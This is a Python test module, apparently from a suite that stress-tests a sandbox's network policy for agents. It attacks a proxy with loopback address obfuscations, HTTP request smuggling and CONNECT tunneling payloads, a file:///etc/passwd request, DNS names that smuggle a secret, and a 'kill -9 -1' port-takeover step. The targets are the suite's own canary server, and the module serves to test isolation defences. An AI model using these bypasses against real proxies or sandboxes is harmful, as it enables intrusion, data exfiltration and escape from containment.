"""Attacks on a network policy that allows one destination: a server of the suite's own.

All addresses are this machine's loopback. What must not be reached is the canary's port on it; names
end in .invalid or are spellings of the loopback, and no name that the policy does not allow is ever
looked up.
"""

import contextlib
import http.server
import threading
import time
from collections.abc import Iterator

from experiments.isolation_attacks.attack import USERS, Attack, Scene
from rome.envs.network import NetworkPolicy

_KIND = "network policy"
FORWARDED = 9999
_SECRET = "sandbox-secret"
_HOSTS = (
  "127.0.0.1", "0x7f.0.0.1", "0x7f000001", "2130706433", "127.1", "017700000001", "0177.0.0.1",
  "127.0.0.1.", "localhost", "LOCALHOST.", "0.0.0.0", "0", "[::1]", "[::ffff:127.0.0.1]",
  "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[::1%lo]", "127.0.0.2",
  "127.0.0.1%20", "127.0.0.1%00", "127.0.0.1%2f", "user@127.0.0.1", "127.0.0.1:{allowed}@127.0.0.1",
  "127.0.0.1#", "a.invalid", "127.0.0.1.a.invalid", "xn--0.invalid",
)  # fmt: skip


class _Pages(http.server.BaseHTTPRequestHandler):
  """Answers ALLOWED; /to redirects to the port that the query names."""

  protocol_version = "HTTP/1.1"

  def do_GET(self) -> None:
    body = b"ALLOWED\n"
    self.send_response(302 if self.path.startswith("/to") else 200)
    if self.path.startswith("/to"):
      self.send_header("Location", f"http://127.0.0.1:{self.path.rpartition('?')[2]}/")
    self.send_header("Content-Length", str(len(body)))
    self.end_headers()
    self.wfile.write(body)

  def log_message(self, *_: object) -> None:
    pass


class _Server(http.server.ThreadingHTTPServer):
  def handle_error(self, request: object, client_address: object) -> None:
    pass  # whoever was attacked hung up


@contextlib.contextmanager
def server() -> Iterator[int]:
  """The one server that is allowed; yields its port."""
  with _Server(("127.0.0.1", 0), _Pages) as pages:
    thread = threading.Thread(target=pages.serve_forever, daemon=True)
    thread.start()
    try:
      yield pages.server_address[1]
    finally:
      pages.shutdown()
      thread.join()


def policy(port: int) -> NetworkPolicy:
  """It allows the server by its address, and forwards a port to it."""
  return NetworkPolicy(
    allow=(f"127.0.0.1:{port}", "allowed.invalid:80"), forward={FORWARDED: ("127.0.0.1", port)}
  )


def _talk(scene: Scene, requests: list[bytes], port: int = 3128) -> str:
  """Sends each on a connection of its own; the canary's port must hear of none."""
  for number, request in enumerate(requests):
    scene.sandbox.write_file(f"/tmp/q/{number}", scene.fill_bytes(request), owner="agent")
  return scene.run(
    f"for f in $(seq 0 {len(requests) - 1}); do timeout 9 /tmp/payload talk {port} < /tmp/q/$f | head -n 1; done",
    60,
  )


def _notations(scene: Scene) -> None:
  _works(scene)
  texts = [b"CONNECT %s:{port} HTTP/1.1\r\nHost: %s:{port}\r\n\r\n"]
  texts += [b"GET http://%s:{port}/ HTTP/1.1\r\nHost: %s:{port}\r\nConnection: close\r\n\r\n"]
  requests = [text % (host.encode(), host.encode()) for text in texts for host in _HOSTS]
  output = _talk(scene, requests)
  scene.expect(" 200 " not in output, f"the proxy let one pass: {output[:200]!r}")


def _works(scene: Scene) -> None:
  """Without this, refusals would prove nothing. On a crowded machine it may take its time."""
  request = (
    b"GET http://127.0.0.1:{allowed}/ HTTP/1.1\r\nHost: 127.0.0.1:{allowed}\r\n"
    b"Connection: close\r\n\r\n"
  )
  end, output = time.monotonic() + 60, ""
  while "200" not in output and time.monotonic() < end:
    output = _talk(scene, [request])
  scene.expect("200" in output, f"the allowed server was not reached: {output[:100]!r}")
  scene.run(f"printf 'GET / HTTP/1.0\\r\\n\\r\\n' | /tmp/payload talk {FORWARDED}")


def _smuggling(scene: Scene) -> None:
  _works(scene)
  allowed, bad = (
    b"http://127.0.0.1:{allowed}/",
    b"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
  )
  head = b"Host: 127.0.0.1:{allowed}\r\n"
  output = _talk(scene, [
    b"GET " + allowed + b" HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
    b"GET " + allowed + b" HTTP/1.1\r\n" + head + b"Host: 127.0.0.1:{port}\r\n\r\n",
    b"GET " + allowed + b" HTTP/1.1\r\n" + head + b"\r\n" + bad,
    b"POST " + allowed + b" HTTP/1.1\r\n" + head + b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + bad,
    b"POST " + allowed + b" HTTP/1.1\r\n" + head + b"Content-Length: 3\r\nContent-Length: 300\r\n\r\nabc" + bad,
    b"POST " + allowed + b" HTTP/1.1\r\n" + head + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + bad,
    b"POST " + allowed + b" HTTP/1.1\n" + head + b"Transfer-Encoding: chunked\n\n0\n\n" + bad,
    b"GET http://127.0.0.1:{allowed}@127.0.0.1:{port}/ HTTP/1.1\r\n" + head + b"\r\n",
    b"GET http://127.0.0.1:{allowed}\\@127.0.0.1:{port}/ HTTP/1.1\r\n" + head + b"\r\n",
    b"GET http://127.0.0.1:{allowed} HTTP/1.1\r\nX: http://127.0.0.1:{port}/ HTTP/1.1\r\n" + head + b"\r\n",
    b"GET http://127.0.0.1:{allowed}/\r\n HTTP/1.1\r\n" + head + b"\r\n" + bad,
    b"CONNECT 127.0.0.1:{allowed} HTTP/1.1\r\n" + head + b"\r\n" + b"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n",
    b"CONNECT 127.0.0.1:{allowed}:{port} HTTP/1.1\r\n" + head + b"\r\n",
    b"CONNECT 127.0.0.1:{allowed},127.0.0.1:{port} HTTP/1.1\r\n\r\n",
    b"CONNECT //127.0.0.1:{port} HTTP/1.1\r\n\r\n", b"CONNECT [127.0.0.1]:{port} HTTP/1.1\r\n\r\n",
    b"GET /to?{port} HTTP/1.1\r\n" + head + b"\r\n", b"GET http://127.0.0.1:{allowed}/to?{port} HTTP/1.1\r\n" + head + b"\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x16\x03\x01\x02\x00\x01" + bytes(600), b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01",
    b"GET ftp://127.0.0.1:{port}/ HTTP/1.1\r\n" + head + b"\r\n", b"GET file:///etc/passwd HTTP/1.1\r\n" + head + b"\r\n",
    b"GET " + allowed + b" HTTP/1.1\r\n" + head + b"X: " + b"a" * 60000 + b"\r\n\r\n",
  ])  # fmt: skip
  scene.expect("root:" not in output, "the proxy read a file of the host")


def _listeners(scene: Scene) -> None:
  """Root takes the proxy's, the name server's and the forwarder's ports for itself."""
  scene.run(f"/tmp/payload occupy 3128 53 {FORWARDED}; kill -9 -1")
  _works(scene)


def _flood(scene: Scene) -> None:
  """More connections and requests than there may be, then the allowed one."""
  scene.run(
    "for i in $(seq 20); do (sleep 2 | /tmp/payload talk 3128 > /dev/null &) ; done 2>/dev/null; "
    "for i in 1 2 3; do echo x | timeout 1 /tmp/payload talk 3128; done > /dev/null; "
    "head -c 3000000 /dev/zero | timeout 2 /tmp/payload talk 3128 | head -c 100",
    15,
  )
  scene.sandbox.verify("true")
  _works(scene)
  scene.expect(len(scene.sandbox.attempts()) <= 10_000, "the log of attempts has no bound")


def _names(scene: Scene) -> None:
  """Names that carry data: none is passed on, and the log has what was asked."""
  scene.run(
    f"/tmp/payload ask {_SECRET}.a.invalid {'a' * 60}.{'b' * 60}.{'c' * 60}.invalid localhost "
    "127.0.0.2 metadata.invalid allowed.invalid.a.invalid xallowed.invalid",
    30,
  )
  asked = [one for one in scene.sandbox.attempts() if one.kind == "dns"]
  scene.expect(any(_SECRET in one.destination for one in asked), "a question was not noted")
  scene.expect(not any(one.allowed for one in asked), "a question was allowed")


def _direct(scene: Scene) -> None:
  """Past the proxy: the host's port at addresses of the sandbox's own loopback."""
  scene.run(
    "for a in 127.0.0.1 127.0.0.2 127.77.0.1 127.77.0.2 127.255.255.254 0.0.0.0; do "
    "for p in {port} 80 {allowed}; do echo x | timeout 2 /tmp/payload talk $p $a | head -c 60; done; done; "
    "/tmp/payload reach {port} {abstract} {service} /run/rome/sock; /tmp/payload sockets; /tmp/payload route",
    30,
  )


def _tunnel(scene: Scene) -> None:
  """A listener inside is nobody's to reach from outside, by whatever the proxy is told."""
  scene.run(
    "(timeout 4 /tmp/payload talk 3128 < /dev/null > /dev/null &) ; "
    "printf 'CONNECT 127.0.0.1:3128 HTTP/1.1\\r\\n\\r\\nCONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n' | "
    "/tmp/payload talk 3128; printf 'CONNECT 127.0.0.1:53 HTTP/1.1\\r\\n\\r\\n' | /tmp/payload talk 3128; "
    "printf 'GET http://127.0.0.1:{port}/ HTTP/1.0\\r\\n\\r\\n' | /tmp/payload talk 9999",
    15,
  )
  _works(scene)


def _attack(name: str, play, quick: bool = False, users: tuple[str, ...] = USERS) -> Attack:  # type: ignore[no-untyped-def]
  return Attack(name, _KIND, "host", play, users, quick, needs_policy=True)


ATTACKS: list[Attack] = [
  _attack("other spellings of the loopback, by CONNECT and by URL", _notations),
  _attack("requests smuggled behind allowed ones", _smuggling),
  _attack("data in the names that are asked for", _names),
  _attack("past the proxy", _direct),
  _attack("tunnels through the proxy and the forwarder", _tunnel),
  _attack("the proxy's ports taken", _listeners),
  _attack("a flood of connections", _flood),
]
